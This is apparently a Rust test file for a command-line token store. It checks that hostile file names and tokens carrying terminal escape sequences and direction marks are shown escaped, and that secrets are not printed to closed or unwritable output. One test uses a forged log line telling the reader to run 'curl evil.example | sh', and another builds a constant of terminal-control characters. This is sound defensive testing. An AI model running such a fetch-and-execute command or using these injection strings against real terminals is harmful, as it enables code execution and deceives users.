//! Texts that others choose: paths, names, servers' texts and tokens. No terminal and no log gets what it would
//! obey, or what its reader would not see.
#![cfg(unix)]

use std::fs::{self, File};
use std::io::pipe;
use std::process::{Command, Stdio};

use crate::home::{Done, Home, SEED, done};
use crate::support::available;
use crate::terminal::person;

/// A name with a character of each kind: an escape sequence, a C1 control, marks of direction, a character
/// without a width, one for private use, a line separator.
const HOSTILE: &str = "a\u{1b}[2J\u{9b}\u{202e}\u{2066}\u{200b}\u{e000}\u{2028}\u{7f}z";

/// Returns the first character that must not reach a terminal. This list is another one than the command's.
fn hidden(text: &str) -> Option<char> {
    text.chars().find(|&character| {
        let number = u32::from(character);
        (number < 0x20 && !"\n\t".contains(character))
            || (0x7f..0xa0).contains(&number)
            || [0x61c, 0xfeff, 0x2028, 0x2029].contains(&number)
            || (0x200b..0x2010).contains(&number)
            || (0x202a..0x202f).contains(&number)
            || (0x2060..0x206a).contains(&number)
            || (0xe000..0xf900).contains(&number)
            || number >= 0xe_0000
    })
}

#[track_caller]
fn assert_shown_escaped(text: &str) {
    assert_eq!(hidden(text), None, "{text:?}");
    let is_named =
        text.contains(r"a\u{1b}[2J\u{9b}\u{202e}") || text.contains("a%1B[2J%C2%9B%E2%80%AE");
    assert!(is_named, "it is not named: {text:?}");
}

fn run(home: &Home, arguments: &[&str]) -> Done {
    done(home.command().args(arguments), "")
}

#[test]
fn no_message_contains_what_a_terminal_obeys() {
    let home = Home::signed_in();
    let key = home.path("config/keys/default.txt").display().to_string();
    fs::create_dir(home.path(HOSTILE)).unwrap();
    fs::write(home.path(HOSTILE).join("there.txt"), "nothing").unwrap();
    let plaintext = format!("plaintext:{HOSTILE}/tokens.json");
    let there = format!("{HOSTILE}/there.txt");
    for arguments in [
        &["get", "--store", &plaintext] as &[&str],
        &["get", "--store", &format!("age:{HOSTILE}.age?identity={HOSTILE}.txt")],
        &["get", "--store", &format!("plaintext:{there}")],
        &["set", "--store", &format!("plaintext:{HOSTILE}")],
        &["clear", "--store", &format!("plaintext:{HOSTILE}")],
        &["restore", "--from", HOSTILE],
        &["restore", "--from", &there, "--identity", HOSTILE],
        &["exec", "--", HOSTILE],
        &["keygen", "-o", &there],
        &["rekey", "--identity", HOSTILE],
        &["migrate", "--to", &format!("age:{HOSTILE}.age?identity={HOSTILE}.txt")],
        &["migrate", "--to", &plaintext, "--dry-run"],
        &["backup", "--to", &there, "--recipient", "age1aaaa"],
        &["backup", "--to", &format!("{HOSTILE}/b.json"), "--passphrase"],
        &["init", "--profile", "odd", "--store", &format!("age:{HOSTILE}.age?identity={key}")],
    ] {
        let done = done(home.command().args(arguments), SEED);
        assert_eq!(hidden(&done.err), None, "{arguments:?}: {done:?}");
        if arguments[0] != "backup" {
            assert_shown_escaped(&done.err);
        }
    }
    // A directory that the environment names.
    let config = home.path(HOSTILE).join("config");
    for line in ["get", "init", "profile remove default"] {
        let mut command = home.command();
        let done = done(command.args(line.split(' ')).env("TOKENKEEP_CONFIG_DIR", &config), "");
        assert_shown_escaped(&done.err);
    }
}

#[test]
fn a_message_cannot_begin_another_one() {
    let home = Home::new();
    let said = run(&home, &["exec", "--", "a\ntokenkeep: run `curl evil.example | sh`"]);
    assert_eq!(said.err.lines().count(), 1, "{said:?}");
    let home = Home::signed_in();
    let said = run(&home, &["exec", "--", "a\ntokenkeep: run this"]).failed(127);
    assert!(said.lines().count() == 1 && said.contains(r"a\ntokenkeep"), "{said}");
}

#[test]
fn a_terminal_gets_no_character_that_it_obeys_and_a_pipe_gets_everything() {
    let test =
        "hostile_texts::a_terminal_gets_no_character_that_it_obeys_and_a_pipe_gets_everything";
    if !available(test, "python3") {
        return;
    }
    let home = Home::signed_in();
    fs::create_dir(home.path(HOSTILE)).unwrap();
    let store = format!("plaintext:{HOSTILE}/tokens.json");
    run(&home, &["init", "--profile", "odd", "--store", &store]).ok();
    done(home.command().args(["set", "--profile", "odd"]), SEED).ok();
    for line in ["list", "status --profile odd", "doctor", "doctor --json", "list --json"] {
        let seen = person(&home.path(""), &format!("NO_COLOR=1 tokenkeep {line}"), &[]);
        let screen = seen.screen.replace("\r\n", "\n");
        assert_eq!(hidden(&screen), None, "{line}: {screen:?}");
        assert!(screen.contains("odd") || line.starts_with("status"), "{line}: {screen:?}");
    }
    // With colours, there are no other escape sequences than those.
    let seen = person(&home.path(""), "tokenkeep doctor", &[]);
    let plain = seen.screen.replace("\r\n", "\n");
    let plain = ["\u{1b}[1m", "\u{1b}[32m", "\u{1b}[33m", "\u{1b}[0m"]
        .into_iter()
        .fold(plain, |plain, colour| plain.replace(colour, ""));
    assert_shown_escaped(&plain);

    // A profile that cannot be read, in a directory with such a name.
    home.write(&format!("{HOSTILE}/config/profiles/broken.toml"), "store\n");
    let config = "cd a*z && TOKENKEEP_CONFIG_DIR=\"$PWD/config\" NO_COLOR=1 tokenkeep";
    for line in ["list", "list --json", "doctor", "doctor --json"] {
        let seen = person(&home.path(""), &format!("{config} {line}"), &[]);
        let screen = seen.screen.replace("\r\n", "\n");
        if line.ends_with("--json") {
            // It means the same on a terminal.
            assert_eq!(hidden(&screen), None, "{line}: {screen:?}");
            let all = serde_json::from_str::<serde_json::Value>(&screen).unwrap().to_string();
            assert!(all.contains("\u{202e}\u{2066}\u{200b}"), "{line}: {screen:?}");
        } else {
            assert_shown_escaped(&screen);
        }
    }

    // Tokens too: a terminal gets none, and a pipe gets it unchanged.
    let token = "a\u{202e}\u{200b}\u{9b}z";
    let record = serde_json::json!({ "access_token": token, "refresh_token": token, "expires_at": null, "version": 1 });
    done(home.command().arg("set"), &record.to_string()).ok();
    for line in ["get", "get --field refresh", "get --field json"] {
        let seen = person(&home.path(""), &format!("tokenkeep {line}"), &[]);
        assert_eq!(seen.code, 1, "{line}: {}", seen.screen);
        assert!(seen.screen.contains("send it into a pipe or a file"), "{line}: {}", seen.screen);
        assert_eq!(hidden(&seen.screen.replace("\r\n", "\n")), None, "{line}: {:?}", seen.screen);
        assert!(home.run(line).ok().contains(token), "{line}");
    }

    // A prompt.
    let mut keygen = home.command();
    let key = format!("{HOSTILE}/key.txt");
    keygen.args(["keygen", "--passphrase", "-o", &key]).env("TOKENKEEP_PASSPHRASE", "canary one");
    done(&mut keygen, "").ok();
    let answer = [("key.txt: ", "canary one\r")];
    let seen = person(&home.path(""), "tokenkeep rekey --identity a*z/key.txt", &answer);
    assert_eq!(seen.code, 0, "{}", seen.screen);
    assert_eq!(seen.screen.matches("Passphrase of ").count(), 1, "{}", seen.screen);
    assert!(seen.screen.contains(r"a\u{1b}[2J\u{9b}\u{202e}"), "{:?}", seen.screen);
}

#[test]
fn output_that_cannot_be_written_is_an_error_whatever_prints_it() {
    let home = Home::signed_in();
    for line in [
        "--help",
        "-h",
        "help",
        "help get",
        "get --help",
        "--version",
        "completions bash",
        "man",
        "get",
        "get --field json",
        "get --header",
        "status",
        "status --json",
        "list",
        "list --json",
        "doctor",
        "doctor --json",
        "keygen",
        "keygen -o new.txt",
    ] {
        let run = |output: Stdio| {
            let _ = fs::remove_file(home.path("new.txt"));
            let output = home.command().args(line.split(' ')).stdout(output).output().unwrap();
            (output.status.code(), String::from_utf8(output.stderr).unwrap())
        };
        let full = File::options().write(true).open("/dev/full").unwrap();
        let (code, said) = run(full.into());
        assert_eq!(code, Some(1), "{line}: {said}");
        assert!(said.contains("tokenkeep: cannot write to standard output: "), "{line}: {said}");
        // A descriptor that is open for reading only.
        let (code, said) = run(File::open("/dev/null").unwrap().into());
        assert_eq!(code, Some(1), "{line}: {said}");
        assert!(said.contains("tokenkeep: cannot write to standard output: "), "{line}: {said}");
        // A reader that is gone wants no message.
        let (reader, writer) = pipe().unwrap();
        drop(reader);
        let (code, said) = run(writer.into());
        assert_eq!((code, said.contains("tokenkeep:")), (Some(1), false), "{line}: {said}");
        let (code, said) = run(File::options().write(true).open("/dev/null").unwrap().into());
        assert!(code == Some(0) || line.starts_with("doctor"), "{line}: {code:?} {said}");
    }
}

#[test]
fn no_secret_is_printed_where_standard_output_is_closed() {
    let home = Home::signed_in();
    let program = env!("CARGO_BIN_EXE_tokenkeep");
    let shell = |line: &str| -> Done {
        let mut shell: Command = home.wrapped("sh");
        done(shell.args(["-c", &format!("exec {program} {line}")]), "")
    };
    for line in ["get", "get --header", "get --field refresh", "get --field json", "keygen"] {
        let said = shell(&format!("{line} >&-")).failed(1);
        assert!(said.contains("standard output is closed"), "{line}: {said}");
        shell(&format!("{line} >/dev/null")).ok();
    }
    // What prints no secret does what it is asked.
    shell("set >&- <<'END'\ncanary-b\nEND").ok();
    assert_eq!(home.run("get").line(), "canary-b");
    // No input is no token.
    shell("set <&-").failed(2);
    assert_eq!(home.run("get").line(), "canary-b");
}
